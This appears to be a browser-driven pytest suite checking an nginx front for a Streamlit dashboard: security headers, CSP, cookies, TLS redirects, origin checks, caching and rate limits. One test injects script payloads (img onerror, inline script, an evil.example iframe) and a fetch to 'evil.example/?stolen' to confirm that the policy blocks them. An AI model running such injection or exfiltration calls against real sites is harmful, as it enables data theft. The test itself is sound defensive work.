"""The example for nginx does what it says, with every page in a real browser."""

import gzip
import http.client
import re
import socket
import ssl
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import brotli
import pytest
import websockets
from playwright.sync_api import Browser, BrowserContext
from streamlit.file_util import get_static_dir
from websockets.sync.client import connect

from bench.soak.people import COOKIE
from tests import discovery
from tests.browser import ROOT, settle, wait_until_drawn
from tests.deploy.site import Site, site

__all__ = ["site"]

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PAGES = sorted(page.name for page in discovery.pages())
UNTRUSTED = ssl._create_unverified_context()


def ask(
    address: str, path: str, *, method: str = "GET", **headers: str
) -> tuple[int, list[tuple[str, str]], bytes]:
    parts = urlsplit(address)
    if parts.scheme == "https":
        connection: http.client.HTTPConnection = http.client.HTTPSConnection(
            parts.netloc, timeout=60, context=UNTRUSTED
        )
    else:
        connection = http.client.HTTPConnection(parts.netloc, timeout=60)
    connection.request(method, path, headers={k.replace("_", "-"): v for k, v in headers.items()})
    answer = connection.getresponse()
    fields = [(name.lower(), value) for name, value in answer.getheaders()]
    body = answer.read()
    connection.close()
    return answer.status, fields, body


@pytest.fixture(scope="module")
def officer(site: Site, chromium: Browser) -> Iterator[BrowserContext]:
    """A browser that is signed in, and keeps what breaks the policy of the site."""
    context = chromium.new_context(
        ignore_https_errors=True, viewport={"width": 1280, "height": 900}
    )
    value = site.people.cookie(site.address, "officer")
    context.add_cookies([{"name": COOKIE, "value": value, "url": site.address}])
    context.add_init_script(
        "window.broken = []; document.addEventListener('securitypolicyviolation', event =>"
        " window.broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`"
        " + ` ${event.sourceFile}`))"
    )
    yield context
    context.close()


@pytest.mark.parametrize("name", PAGES)
def test_every_page_comes_up_under_the_policy_and_breaks_none_of_it(
    name: str, site: Site, officer: BrowserContext
) -> None:
    # The window that the page before was opened in: it has loaded the program.
    page = next(iter(officer.pages), None) or officer.new_page()
    page.set_viewport_size({"width": 1280, "height": 900})
    console: list[str] = []
    errors: list[str] = []
    strays: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("request", lambda request: strays.append(request.url))
    # Every other page in the dark, where charts are drawn by the same code with other colours.
    page.emulate_media(color_scheme=("light", "dark")[PAGES.index(name) % 2])
    page.goto(f"{site.address}/{'' if name == 'overview' else name}?lang=en&province=50")
    settle(page)
    for closed in page.locator("[data-testid=stExpander] summary").all()[:4]:
        closed.click()
        page.wait_for_timeout(200)
    if page.locator(".amphoe-map").count():
        wait_until_drawn(page)
    if page.locator(".js-plotly-plot").count():
        assert page.locator(".js-plotly-plot svg.main-svg").count()
    height = page.evaluate("document.querySelector('[data-testid=stMain]').scrollHeight")
    page.set_viewport_size({"width": 1280, "height": min(int(height) + 20, 5000)})
    settle(page)
    assert page.evaluate("window.broken") == []
    assert not [text for text in console if re.search(r"Content.Security|refused to", text, re.I)]
    assert not errors
    assert page.locator("[data-testid=stException], [role=dialog]").count() == 0
    own = (site.address, site.address.replace("https", "wss"), "data:", "blob:")
    assert not [url for url in strays if not url.startswith(own)]


def test_a_file_is_taken_and_a_choice_is_made_through_the_proxy(
    site: Site, officer: BrowserContext
) -> None:
    page = officer.new_page()
    page.goto(f"{site.address}/gaps?lang=en")
    settle(page)
    with page.expect_download() as download:
        page.get_by_role("button", name="Download").click()
        page.get_by_role("button", name="CSV").first.click()
    assert download.value.path().read_bytes().startswith(b"\xef\xbb\xbf")
    assert page.evaluate("window.broken") == []


def test_what_a_planted_script_would_do_is_refused_by_the_browser(
    site: Site, officer: BrowserContext
) -> None:
    page = officer.new_page()
    page.goto(f"{site.address}/?lang=en")
    settle(page)
    page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">"
        '<iframe src="https://evil.example/"></iframe>\')'
    )
    page.evaluate(
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
        " document.body.append(s)"
    )
    page.evaluate("fetch('https://evil.example/?stolen').catch(() => 0)")
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran") is None
    broken = page.evaluate("window.broken.map(each => each.split(' ')[0])")
    assert {"script-src-attr", "script-src-elem", "connect-src", "frame-src"} <= set(broken)


@pytest.mark.parametrize("path", ["/", "/gaps", "/_stcore/health", "/app/static/map/index.json"])
def test_every_answer_carries_each_header_once(path: str, site: Site) -> None:
    _, headers, _ = ask(site.address, path)
    names = [name for name, _ in headers]
    fields = dict(headers)
    for name in (
        "strict-transport-security",
        "content-security-policy",
        "x-frame-options",
        "x-content-type-options",
        "referrer-policy",
        "permissions-policy",
        "cross-origin-opener-policy",
        "cross-origin-resource-policy",
    ):
        assert names.count(name) == 1, (name, headers)
    assert "frame-ancestors 'none'" in fields["content-security-policy"]
    assert "'unsafe-eval'" not in fields["content-security-policy"]
    assert re.fullmatch(r"nginx", fields.get("server", "nginx")), "tells its version"
    assert "access-control-allow-origin" not in fields


def test_every_cookie_travels_over_tls_only(site: Site) -> None:
    _, headers, _ = ask(site.address, "/_stcore/health")
    cookies = [value for name, value in headers if name == "set-cookie"]
    assert {cookie.partition("=")[0] for cookie in cookies} >= {"_streamlit_xsrf", "pakthong_to"}
    for cookie in cookies:
        assert "secure" in cookie.lower(), cookie
        assert "samesite" in cookie.lower(), cookie


def test_plain_http_leads_to_the_same_address_with_tls(site: Site) -> None:
    status, headers, _ = ask(site.plain, "/gaps?lang=en", Host="localhost")
    assert status == 301
    assert dict(headers)["location"] == f"{site.address}/gaps?lang=en"
    (site.folder / "acme" / ".well-known" / "acme-challenge").mkdir(parents=True)
    (site.folder / "acme" / ".well-known" / "acme-challenge" / "x").write_text("told")
    assert ask(site.plain, "/.well-known/acme-challenge/x", Host="localhost")[2] == b"told"


def test_another_name_is_told_nothing(site: Site) -> None:
    port = int(urlsplit(site.address).port or 0)
    with (
        socket.create_connection(("127.0.0.1", port)) as plain,
        pytest.raises(ssl.SSLError),
    ):
        UNTRUSTED.wrap_socket(plain, server_hostname="evil.example")


def test_a_foreign_page_is_refused_through_the_proxy_as_well(site: Site) -> None:
    stream = f"wss{site.address.removeprefix('https')}/_stcore/stream"
    with pytest.raises(websockets.InvalidStatus) as refused:
        connect(stream, origin=websockets.Origin("https://evil.example"), ssl=UNTRUSTED)
    assert refused.value.response.status_code == 403
    assert ask(site.address, "/", Origin="https://evil.example")[0] == 403


def test_the_dashboard_answers_to_the_name_of_the_site_only(site: Site) -> None:
    """As `pakthong.env` has it: what goes around the web server calls it by another name."""
    with pytest.raises(websockets.InvalidStatus) as refused:
        connect(
            f"ws{site.dashboard.removeprefix('http')}/_stcore/stream",
            origin=websockets.Origin(site.dashboard),
            additional_headers={
                "Cookie": f"{COOKIE}={site.people.cookie(site.address, 'officer')}"
            },
        )
    assert refused.value.response.status_code == 403


@pytest.mark.parametrize(
    "path",
    ["/_stcore/metrics", "/_stcore/script-health-check", "/_stcore/agent/openapi.json"],
)
def test_what_is_not_for_visitors_is_not_there(path: str, site: Site) -> None:
    status, _, body = ask(site.address, path)
    assert status == 404
    assert b"agent" not in body


def test_hashed_files_are_kept_and_sent_small(site: Site) -> None:
    # Older scripts may lie beside the newest: each is served alike.
    script = next((ROOT / "static" / "vendor").glob("amphoe_map-*.js"))
    path = f"/app/static/vendor/{script.name}"
    for _ in range(2):
        status, headers, body = ask(site.address, path, Accept_Encoding="gzip")
        fields = dict(headers)
        assert status == 200
        assert fields["cache-control"] == "public, max-age=31536000, immutable"
        assert fields["content-encoding"] == "gzip"
        assert len(body) < script.stat().st_size / 2
    assert any((site.folder / "cache").rglob("*"))
    _, headers, _ = ask(site.address, "/app/static/map/index.json")
    assert "immutable" not in dict(headers).get("cache-control", "")


def test_what_the_dashboard_has_compressed_passes_as_it_is(site: Site) -> None:
    """Compressed once, and kept as long as the dashboard says, cached by nginx or not."""
    program = Path(get_static_dir()) / "static"
    script = next((program / "js").glob("index.*.js"))
    icons = next((program / "media").glob("MaterialSymbols-Rounded.*"))
    geometry = next((ROOT / "static" / "map").glob("amphoe-*.json"))
    for_ever = "public, max-age=31536000, immutable"
    asked = (
        (f"/static/js/{script.name}", for_ever, script.read_bytes()),
        (f"/app/static/map/{geometry.name}", for_ever, geometry.read_bytes()),
        ("/app/static/vendor/Sarabun-Bold.woff2", "public, max-age=604800", None),
        (f"/static/media/{icons.name}", "no-cache", None),
    )
    opened = {"br": brotli.decompress, "gzip": gzip.decompress}
    for path, kept, body in asked:
        # Each form twice, so that one that is cached is not given to who asked for another.
        for accepted in ("br", "gzip", "br", "gzip", "identity"):
            status, headers, sent = ask(site.address, path, Accept_Encoding=accepted)
            fields = dict(headers)
            assert status == 200, path
            assert [value for name, value in headers if name == "cache-control"] == [kept]
            assert "Accept-Encoding" in fields["vary"]
            told = fields.get("content-encoding", "identity")
            assert told == (accepted if body else "identity"), path
            assert body is None or opened.get(told, bytes)(sent) == body
        tag = fields["etag"]
        again = ask(site.address, path, Accept_Encoding="identity", If_None_Match=tag)
        assert (again[0], again[2]) == (304, b"")


def test_a_body_that_nobody_needs_is_refused(site: Site) -> None:
    status, _, _ = ask(site.address, "/", method="POST", Content_Length=str(10 * 2**20))
    assert status == 413
    status, _, _ = ask(
        site.address, "/_stcore/upload_file/a/b", method="PUT", Content_Length=str(400 * 2**20)
    )
    assert status == 413


def test_the_log_tells_no_query(site: Site) -> None:
    ask(site.address, "/gaps?province=50&code=planted-word")
    log = (site.folder / "access.log").read_text()
    assert "GET /gaps" in log
    assert "planted-word" not in log


def test_signing_in_cannot_be_tried_without_end(site: Site) -> None:
    tried = [ask(site.address, "/auth/login")[0] for _ in range(40)]
    assert tried[-1] == 429
    assert ask(site.address, "/_stcore/health")[0] == 200
